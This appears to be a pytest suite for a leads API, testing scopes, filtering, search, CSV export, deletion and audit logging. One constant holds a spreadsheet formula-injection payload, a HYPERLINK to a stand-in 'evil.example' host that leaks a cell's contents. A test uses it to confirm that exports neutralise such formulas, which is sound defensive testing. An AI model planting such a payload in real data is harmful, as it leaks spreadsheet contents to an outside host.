"""Leads are found, shown, exported and deleted; what is refused first."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from tests.accounts.people import refused, sign_up
from tests.conftest import Desk, Rows, Server
from tests.conversations.visitors.site import Site
from tests.inbox.team import UNKNOWN, bare, ok

UNTIDY = '=HYPERLINK("http://evil.example/?"&A2)'


class Book:
    """A project of somebody who has just signed up, with the leads that a test puts there."""

    def __init__(self, server: Server, visitor: httpx.Client, rows: Rows) -> None:
        self.owner = sign_up(server)
        self.client = self.owner.client
        self.desk = Desk(self.client, visitor)
        self.path = f"{self.desk.path}/leads"
        self.visitor = visitor
        self.rows = rows

    def add(self, at: datetime | None = None, **body: Any) -> str:
        """Add a lead, at another time than now if need be; return its id."""
        lead = ok(self.client.post(self.path, json={"phone": "0", **body}), 201)["id"]
        if at is not None:
            self.rows("update lead set created_at = %s where id = %s returning 1", at, bare(lead))
        return str(lead)

    def ids(self, **params: Any) -> list[str]:
        """Return the ids of a list, newest first, whatever its pages."""
        found: list[str] = []
        cursor = None
        while True:
            page = {**params, "limit": 2} | ({"cursor": cursor} if cursor else {})
            answer = ok(self.client.get(self.path, params=page))
            found += [one["id"] for one in answer["items"]]
            cursor = answer["next_cursor"]
            if cursor is None:
                return found

    def exported(self, **params: Any) -> list[dict[str, str]]:
        answer = self.client.get(f"{self.path}/export", params=params)
        assert answer.status_code == 200, answer.text
        text = answer.content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    def key(self, *scopes: str, **fields: Any) -> dict[str, str]:
        body = {"name": "Test", "scopes": scopes, **fields}
        made = ok(self.client.post("/v1/api-keys", json=body), 201)
        return {"Authorization": f"Bearer {made['key']}"}

    def audited(self) -> list[dict[str, Any]]:
        entries = ok(self.client.get("/v1/audit-log"))["items"]
        return [one for one in entries if one["action"].startswith("lead")]


@pytest.fixture
def book(server: Server, visitor: httpx.Client, rows: Rows) -> Book:
    return Book(server, visitor, rows)


def test_each_takes_its_scope(book: Book) -> None:
    one = f"{book.path}/{book.add()}"
    for headers in ({}, {"Authorization": "Bearer nonsense"}):
        for path in (one, f"{book.path}/export"):
            assert book.visitor.get(path, headers=headers).status_code == 401
        assert book.visitor.delete(one, headers=headers).status_code == 401
    other = book.key("conversations:write", "privacy:write")
    reader = book.key("leads:read")
    for path in (one, f"{book.path}/export"):
        refused(book.visitor.get(path, headers=other), 403, "scope_missing")
        assert book.visitor.get(path, headers=reader).status_code == 200
    for key in (other, reader):
        refused(book.visitor.delete(one, headers=key), 403, "scope_missing")
    assert len(book.ids()) == 1


def test_what_is_not_there_or_somebody_elses_is_not_found(
    book: Book, server: Server, visitor: httpx.Client
) -> None:
    lead = book.add()
    elsewhere = Desk(book.client, visitor)
    stranger = sign_up(server).client
    for path in (f"{book.path}/lead_{UNKNOWN}", f"{book.path}/x", f"{elsewhere.path}/leads/{lead}"):
        refused(book.client.get(path), 404, "lead_not_found")
        refused(book.client.delete(path), 404, "lead_not_found")
    bound = book.key("leads:write", project_ids=[elsewhere.project_id])
    for client, headers in ((stranger, {}), (visitor, bound)):
        one = f"{book.path}/{lead}"
        refused(client.get(one, headers=headers), 404, "project_not_found")
        refused(client.delete(one, headers=headers), 404, "project_not_found")
        refused(client.get(f"{book.path}/export", headers=headers), 404, "project_not_found")
    assert book.ids() == [lead]
    ok(book.client.delete(book.desk.path), 204)
    refused(book.client.get(f"{book.path}/{lead}"), 404, "project_not_found")
    refused(book.client.delete(f"{book.path}/{lead}"), 404, "project_not_found")


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"q": "x" * 201}, "invalid_input"),
        ({"q": "a\0b"}, "invalid_input"),
        ({"consent": "maybe"}, "invalid_input"),
        ({"from": "today"}, "invalid_input"),
        ({"to": "2026-02-30"}, "invalid_input"),
        ({"from": "2026-03-11", "to": "2026-03-10"}, "period_backwards"),
        ({"from": "0001-01-01"}, "period_range"),
        ({"to": "9999-12-31"}, "period_range"),
    ],
)
def test_filters_that_make_no_sense_are_refused(
    book: Book, params: dict[str, str], code: str
) -> None:
    for path in (book.path, f"{book.path}/export"):
        refused(book.client.get(path, params=params), 422, code)


def test_leads_are_found_by_a_part_of_what_they_say(book: Book) -> None:
    ann = book.add(name="Ann Ödegård", email="ann@example.com")
    bob = book.add(name="Bob", phone="+49 30 1234", message="100% sure_ly\nPlease call")
    odd = book.add(name="Back\\slash", phone="/")
    for query, found in (
        ("ann", [ann]),
        ("ÖDEGÅRD", [ann]),
        ("EXAMPLE.com", [ann]),
        ("30 12", [bob]),
        ("please CALL", [bob]),
        ("100%", [bob]),
        ("e_l", [bob]),
        ("\\", [odd]),
        ("/", [odd]),
        ("%", [bob]),
        ("_", [bob]),
        ("a%n", []),
        ("nobody", []),
        (" ", [odd, bob, ann]),
        ("", [odd, bob, ann]),
        ("B", [odd, bob]),
    ):
        assert book.ids(q=query) == found, query
    refused(
        book.client.get(book.path, params={"cursor": cursor_of(book, q="B"), "q": "b"}),
        422,
        "cursor_invalid",
    )


def cursor_of(book: Book, **params: Any) -> str:
    cursor: str = ok(book.client.get(book.path, params={**params, "limit": 1}))["next_cursor"]
    return cursor


def test_leads_are_found_by_day_and_consent(book: Book) -> None:
    zone = {"settings": {"office_hours": {"timezone": "Asia/Tokyo"}}}
    ok(book.client.patch(book.desk.path, json=zone))
    begins = datetime(2026, 3, 9, 15, tzinfo=UTC)
    ends, instant = begins + timedelta(days=1), timedelta(microseconds=1)
    before = book.add(begins - instant)
    first = book.add(begins, consent={"text": "Yes"})
    last = book.add(ends - instant)
    after = book.add(ends, consent={"text": "Yes"})
    day = "2026-03-10"
    for params, found in (
        ({"from": day, "to": day}, [last, first]),
        ({"from": day}, [after, last, first]),
        ({"to": day}, [last, first, before]),
        ({"consent": "true"}, [after, first]),
        ({"consent": "false"}, [last, before]),
        ({"consent": "true", "from": day, "to": day}, [first]),
        ({"consent": "true", "q": "nobody"}, []),
        ({}, [after, last, first, before]),
    ):
        assert book.ids(**params) == found, params
        assert [one["id"] for one in book.exported(**params)] == found, params


def test_who_only_asked_for_a_person_is_no_reachable_lead(
    owner: httpx.Client, visitor: httpx.Client
) -> None:
    site = Site(owner, visitor)
    guest = site.guest()
    ok(guest.post(f"conversations/{guest.start()}/escalate"), 204)
    for contact in ({"phone": "0"}, {"email": "ann@example.com"}):
        ok(owner.post(f"{site.path}/leads", json=contact), 201)
    kinds = {
        kind: [
            (one["email"], one["phone"])
            for one in ok(owner.get(f"{site.path}/leads", params=params))["items"]
        ]
        for kind, params in (
            ("all", {}),
            ("reachable", {"reachable": True}),
            ("not", {"reachable": False}),
        )
    }
    assert kinds["reachable"] == [("ann@example.com", None), (None, "0")]
    assert kinds["not"] == [(None, None)]
    assert kinds["all"] == kinds["reachable"] + kinds["not"]


def test_a_lead_is_shown_as_in_the_list(book: Book) -> None:
    lead = book.add(name="Ann", consent={"text": "Yes"})
    assert [ok(book.client.get(f"{book.path}/{lead}"))] == ok(book.client.get(book.path))["items"]


def test_an_export_is_a_file_for_spreadsheets(book: Book) -> None:
    answer = book.client.get(f"{book.path}/export")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    name = re.fullmatch(
        r'attachment; filename="leads-(\d{4}-\d\d-\d\d)\.csv"',
        answer.headers["content-disposition"],
    )
    assert name is not None
    today = datetime.now(UTC).date()
    assert abs(datetime.fromisoformat(name[1]).date() - today) <= timedelta(days=1)
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content == (
        b"\xef\xbb\xbfid,created_at,updated_at,name,email,phone,message,page_url,excerpt,consent,"
        b"consented_at,consent_page_url,conversation_id\r\n"
    )
    consent = {"text": "I agree.", "at": "2026-01-02T03:04:05+01:00", "page_url": "https://a.b/"}
    lead = book.add(
        name='Ann "A", B',
        email="ann@example.com",
        message="One\nTwo",
        page_url="https://shop.example/",
        excerpt="What?",
        consent=consent,
    )
    shown = ok(book.client.get(f"{book.path}/{lead}"))
    [row] = book.exported()
    assert row == {
        **{key: shown[key] or "" for key in row if key in shown},
        "consent": "I agree.",
        "consented_at": "2026-01-02T02:04:05Z",
        "consent_page_url": "https://a.b/",
    }
    lines = book.client.get(f"{book.path}/export").content.split(b"\r\n")
    assert len(lines) == 3


@pytest.mark.parametrize("text", [UNTIDY, "+1+1", "-1", "@SUM(A1)", "'=1", "＝1"])
def test_a_spreadsheet_gets_text_and_no_formula(book: Book, text: str) -> None:
    book.add(name=text, phone=text, message=text, excerpt=text, page_url=text)
    [row] = book.exported()
    for column in ("name", "phone", "message", "excerpt", "page_url"):
        assert row[column] == f"'{text}", column


@pytest.mark.parametrize("text", ["\tx", "\rx"])
def test_blanks_before_a_formula_are_none(book: Book, text: str, rows: Rows) -> None:
    lead = book.add()
    # What is given is stored without blanks around it; an older version may not have done so.
    rows("update lead set message = %s where id = %s returning 1", text, bare(lead))
    assert [row["message"] for row in book.exported()] == [f"'{text}"]


def test_many_leads_are_exported_whole_and_newest_first(book: Book, rows: Rows) -> None:
    rows(
        "insert into lead (account_id, id, project_id, conversation_id, phone, created_at)"
        " select %s, gen_random_uuid(), %s, gen_random_uuid(), n::text,"
        "  timestamptz '2026-01-01' + (n / 3) * interval '1 second'"
        " from generate_series(1, 1501) n returning 1",
        *(bare(book.owner.account_id), bare(book.desk.project_id)),
    )
    found = book.exported()
    assert {row["phone"] for row in found} == {str(number) for number in range(1, 1502)}
    assert len(found) == 1501
    times = [row["created_at"] for row in found]
    assert times == sorted(times, reverse=True)


def test_a_client_that_reads_slowly_holds_no_connection(
    book: Book, server: Server, rows: Rows
) -> None:
    rows(
        "insert into lead (account_id, id, project_id, conversation_id, message)"
        " select %s, gen_random_uuid(), %s, gen_random_uuid(), repeat('x', 4000)"
        " from generate_series(1, 5000) n returning 1",
        *(bare(book.owner.account_id), bare(book.desk.project_id)),
    )
    in_use = (
        "select count(*) from pg_stat_activity where state <> 'idle' and usename <> current_user"
        " and query like '%%from lead%%'"
    )
    lead = ok(book.client.get(book.path, params={"limit": 1}))["items"][0]["id"]
    with book.client.stream("GET", f"{book.path}/export") as answer:
        parts = answer.iter_raw()
        next(parts)
        assert rows(in_use) == [(0,)]
        # Deleting is not kept from it, either.
        ok(book.client.delete(f"{book.path}/{lead}"), 204)
        assert sum(len(part) for part in parts) > 5000 * 3000


def test_a_deletion_is_in_the_audit_log(book: Book) -> None:
    lead = book.add(email="secret@example.com")
    ok(book.client.delete(f"{book.path}/{lead}"), 204)
    refused(book.client.delete(f"{book.path}/{lead}"), 404, "lead_not_found")
    [deleted] = book.audited()
    assert (deleted["action"], deleted["target"]["id"]) == ("lead.deleted", lead)
    assert "secret" not in str(deleted)


def test_a_deleted_lead_is_gone_and_its_conversation_stays(
    owner: httpx.Client, visitor: httpx.Client, rows: Rows
) -> None:
    site = Site(owner, visitor)
    guest = site.guest()
    conversation_id = guest.start()
    ok(guest.post(f"conversations/{conversation_id}/escalate", email="ada@example.com"), 204)
    [lead] = ok(owner.get(f"{site.path}/leads"))["items"]
    # A project's owner may have been told; the row of it is what is told next time.
    rows(
        "insert into notice (account_id, id, user_id, project_id, kind, lead_id, event_id, due_at,"
        "  mail, browser) select m.account_id, gen_random_uuid(), m.user_id, l.project_id, 'lead',"
        "  l.id, 1, now(), false, true from lead l join membership m using (account_id)"
        " where l.id = %s on conflict do nothing returning 1",
        bare(lead["id"]),
    )
    ok(owner.delete(f"{site.path}/leads/{lead['id']}"), 204)
    assert ok(owner.get(f"{site.path}/leads"))["items"] == []
    assert rows("select count(*) from notice where lead_id = %s", bare(lead["id"])) == [(0,)]
    assert ok(owner.get(f"/v1/conversations/{conversation_id}"))["id"] == conversation_id
